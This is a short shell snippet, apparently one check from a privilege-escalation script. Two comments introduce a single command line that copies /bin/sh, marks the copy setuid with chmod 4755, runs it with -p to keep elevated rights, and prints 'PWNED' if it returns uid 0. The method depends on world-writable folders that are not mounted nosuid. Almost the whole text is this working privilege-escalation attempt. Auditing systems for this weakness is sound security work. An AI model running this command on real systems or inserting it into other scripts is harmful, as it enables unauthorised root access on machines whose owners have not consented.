# tries: make a setuid shell of our own and run it
# from: world-writable folders without nosuid
cp /bin/sh s 2> /dev/null; chmod 4755 s 2> /dev/null; ./s -p -c 'id -u' 2> /dev/null | grep -qx 0 && echo PWNED
